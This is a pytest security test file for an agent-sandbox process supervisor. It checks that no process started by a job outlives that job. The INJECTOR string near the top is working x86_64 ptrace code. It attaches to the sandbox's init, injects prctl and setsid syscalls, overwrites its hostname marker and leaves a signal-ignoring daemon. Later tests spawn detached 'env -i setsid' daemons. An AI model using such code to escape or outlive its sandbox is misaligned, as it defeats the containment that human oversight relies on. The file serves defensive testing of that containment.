"""Nothing of a job outlives it (actors/procs/cgroup.py, docs/security.md).

A hostile model, through documented ops only (`write_file`, `bash`), writes
an injector and runs it: from inside the sandbox it ptraces the sandbox's
init (bwrap's pid 1), makes it clear its parent-death signal, rewrites the
`corral-` marker of its argv through ptrace, keeps it stopped so the job
never ends by itself, and leaves a daemon (`setsid`, SIGTERM and SIGHUP
ignored, its pipes closed) appending to a file of the workspace. With the
sandbox off, a daemon that cleared its environment and left the session is
the same attempt. Whatever it did, the job's end (a timeout, a kill), the
session's and procs' stop leave nothing of it, and a procs started after a
crash kills what a previous run left."""

from __future__ import annotations

import os
import platform
import signal
import sys
import uuid

import pytest

from tests.processes import wait_for
from tests.security.stack import Runtime, host_pids_running, kill_pids, output_of

pytestmark = [pytest.mark.process, pytest.mark.timeout(120)]
PY = sys.executable

# ptrace through ctypes (gcc may be missing); x86_64 register layout
INJECTOR = r'''
import ctypes, os, signal, sys, time
tag, out = sys.argv[1], sys.argv[2]
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
NAMES = ("r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags "
         "rsp ss fs_base gs_base ds es fs gs").split()
class Regs(ctypes.Structure):
    _fields_ = [(n, ctypes.c_ulonglong) for n in NAMES]
ATTACH, GETREGS, SETREGS, PEEK, POKE, STEP, WALL = 16, 12, 13, 2, 5, 9, 0x40000000
r, w = os.pipe()
if os.fork():
    os.close(w)
    print(os.read(r, 300).decode(), flush=True)
    os._exit(0)
os.close(r)
os.setsid()
for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
    signal.signal(sig, signal.SIG_IGN)
def say(msg):
    os.write(w, msg.encode())
def daemon():
    os.close(w)
    for fd in (0, 1, 2):
        os.close(fd)
    while True:  # init stays stopped under us: the job cannot end by itself
        with open(out, "a") as f:
            f.write(tag + "\n")
        time.sleep(0.05)
if libc.ptrace(ATTACH, 1, None, None) != 0:
    say("ptrace refused errno=%d" % ctypes.get_errno())
    daemon()
os.waitpid(1, WALL)
regs = Regs()
libc.ptrace(GETREGS, 1, None, ctypes.byref(regs))
done = []
for nr, arg in ((157, 1), (112, 0)):  # prctl(PR_SET_PDEATHSIG, 0), setsid()
    inj = Regs.from_buffer_copy(regs)
    inj.rip, inj.rax, inj.rdi, inj.rsi, inj.orig_rax = regs.rip - 2, nr, arg, 0, 2**64 - 1
    libc.ptrace(SETREGS, 1, None, ctypes.byref(inj))
    libc.ptrace(STEP, 1, None, None)
    os.waitpid(1, WALL)
    libc.ptrace(GETREGS, 1, None, ctypes.byref(regs))
    done.append(regs.rax)
stat = open("/proc/1/stat", "rb").read()
arg_start = int(stat[stat.rfind(b")") + 2:].split()[45])
at = open("/proc/1/cmdline", "rb").read().find(b"--hostname\0corral-") + 11
if at >= 11:
    ctypes.set_errno(0)
    word = libc.ptrace(PEEK, 1, ctypes.c_void_p(arg_start + at), None) & (2**64 - 1)
    libc.ptrace(POKE, 1, ctypes.c_void_p(arg_start + at),
                ctypes.c_void_p((word & ~0xff) | ord("x")))
marker = open("/proc/1/cmdline", "rb").read().find(b"--hostname\0corral-") < 0
say("injected prctl,setsid=%s marker_gone=%s" % (done, marker))
daemon()
'''


def _tag() -> str:
    return f"corral-daemon-{uuid.uuid4().hex[:12]}"


def _gone(tail: list[str], what: str) -> None:
    try:
        wait_for(lambda: not host_pids_running(tail), 15, f"{what}: the daemon {tail} to be gone")
    finally:
        kill_pids(host_pids_running(tail))


@pytest.mark.skipif(platform.machine() != "x86_64", reason="the injector is x86_64")
def test_a_ptrace_injected_daemon_dies_with_its_job(shared: Runtime) -> None:
    """The injector either is refused (seccomp) or, if it ran, the daemon it
    left dies when the job ends (its timeout): nothing writes the workspace
    after the job's end."""
    tag = _tag()
    ws = shared.tmp / "ws-injector"
    ws.mkdir()
    out = ws / "daemon.txt"
    try:
        results = shared.run_agent("injector-1", [
            {"op": "write_file", "path": "inj.py", "content": INJECTOR},
            {"op": "bash", "command": f"{PY} inj.py {tag} {out}", "timeout_s": 4},
        ], workspace=ws)
        said = output_of(results["2.0"])
        assert "injected" in said or "ptrace refused" in said, said
        _gone([tag, str(out)], "after the job's end")
        size = out.stat().st_size if out.exists() else 0
        assert not host_pids_running([tag, str(out)])
        assert (out.stat().st_size if out.exists() else 0) == size  # nothing writes it now
    finally:
        kill_pids(host_pids_running([tag, str(out)]))


WAIT_FILE = "for i in $(seq 1 400); do [ -s {f} ] && exit 0; sleep 0.05; done; exit 1"


def test_an_injected_daemon_dies_with_its_session(shared: Runtime) -> None:
    """The injector started in the background (`bash_start`); the agent's
    session ends once the daemon writes: nothing of the job is left."""
    tag = _tag()
    ws = shared.tmp / "ws-injector-session"
    ws.mkdir()
    out = ws / "daemon.txt"
    try:
        results = shared.run_agent("injector-2", [
            {"op": "write_file", "path": "inj.py", "content": INJECTOR},
            {"op": "bash_start", "command": f"{PY} inj.py {tag} {out}"},
            {"op": "bash", "command": WAIT_FILE.format(f=out)},
        ], workspace=ws)
        assert results["3.0"]["exit_code"] == 0, results
        _gone([tag, str(out)], "after the session's end")
    finally:
        kill_pids(host_pids_running([tag, str(out)]))


def test_an_injected_daemon_dies_when_procs_stops(runtime: Runtime) -> None:
    """`supervisor stop` stops procs (SIGTERM) under a running job whose
    daemon did what it could to itself: the daemon is gone with procs."""
    runtime.start_procs()
    tag = _tag()
    ws = runtime.tmp / "ws-injector-stop"
    ws.mkdir()
    out = ws / "daemon.txt"
    try:
        agent = runtime.start_agent("injector-3", [
            {"op": "write_file", "path": "inj.py", "content": INJECTOR},
            {"op": "bash", "command": f"{PY} inj.py {tag} {out}", "timeout_s": 300},
        ], workspace=ws)
        wait_for(lambda: out.exists() and out.stat().st_size > 0, 30, "the daemon to write")
        runtime.stop_procs()
        _gone([tag, str(out)], "after procs stopped")
        agent.kill()
        agent.wait(10)
    finally:
        kill_pids(host_pids_running([tag, str(out)]))


def test_an_unconfined_daemon_that_left_its_session_and_marker_dies_with_its_job(
        runtime: Runtime) -> None:
    """Sandbox off: `env -i setsid` drops the job's marker and process group;
    the job's control group still holds it, and the job's end kills it."""
    runtime.start_procs("--sandbox", "off")
    tag = _tag()
    try:
        results = runtime.run_agent("loose-1", [{"op": "bash", "command": (
            f"env -i setsid {PY} -c 'import time; time.sleep(300)' {tag} "
            ">/dev/null 2>&1 </dev/null & echo spawned")}])
        assert "spawned" in output_of(results["1.0"])
        assert results["1.0"]["state"] == "exited"
        _gone([tag], "after the job exited")
    finally:
        kill_pids(host_pids_running([tag]))


def test_a_job_left_by_a_crashed_procs_is_killed_when_procs_starts_again(
        runtime: Runtime) -> None:
    """procs SIGKILLed under a terminal whose program left a daemon outside
    its session and marker: the terminal dies with procs, the daemon would
    not; the next procs kills what the previous run left of the job."""
    runtime.start_procs("--sandbox", "off")
    tag = _tag()
    try:
        agent = runtime.start_agent("crash-1", [{"op": "terminal_start", "command": (
            f"sh -c \"env -i setsid {PY} -c 'import time; time.sleep(300)' {tag} "
            f">/dev/null 2>&1 </dev/null & exec sleep 300\"")},
            {"op": "bash", "command": "sleep 300", "timeout_s": 300}])
        wait_for(lambda: host_pids_running([tag]), 30, "the daemon to run")
        assert runtime.procs is not None
        runtime.procs.send_signal(signal.SIGKILL)
        runtime.procs.wait(10)
        runtime.procs = None
        runtime.start_procs("--sandbox", "off")
        _gone([tag], "after procs started again")
        agent.kill()
        agent.wait(10)
        runtime.stop_procs()  # ends the agent's `sleep 300`, re-attached
    finally:
        kill_pids(host_pids_running([tag]))


def _procs_without_cgroups(rt: Runtime, *args: str) -> None:
    """procs in a mount namespace whose /sys/fs/cgroup is an empty tmpfs: a
    host with no usable cgroup hierarchy, as procs sees it."""
    script = ('mount -t tmpfs none /sys/fs/cgroup && exec "$0" -m actors.procs '
              '--state-dir "$1" --kill-grace-s 0.3 "${@:2}"')
    rt.procs_runs += 1
    rt.procs = rt.processes.spawn(
        ["unshare", "-m", "--propagation", "private", "bash", "-c", script, PY, rt.root, *args],
        name=f"procs{rt.procs_runs}", python=False)
    wait_for(rt._procs_answers, 30, "procs to answer a ping")


@pytest.mark.skipif(os.geteuid() != 0, reason="a mount namespace needs root")
def test_without_a_usable_cgroup_hierarchy_commands_are_refused_unless_configured(
        runtime: Runtime) -> None:
    _procs_without_cgroups(runtime)
    refused = runtime.run_agent("nogroup-1", [{"op": "bash", "command": "echo ran"}])
    error = output_of(refused["1.0"])
    assert "sandbox_unavailable" in error and "cgroups: off" in error, error
    runtime.stop_procs()
    _procs_without_cgroups(runtime, "--cgroups", "off")
    ran = runtime.run_agent("nogroup-2", [{"op": "bash", "command": "echo ran"}])
    assert output_of(ran["1.0"]).startswith("ran"), ran
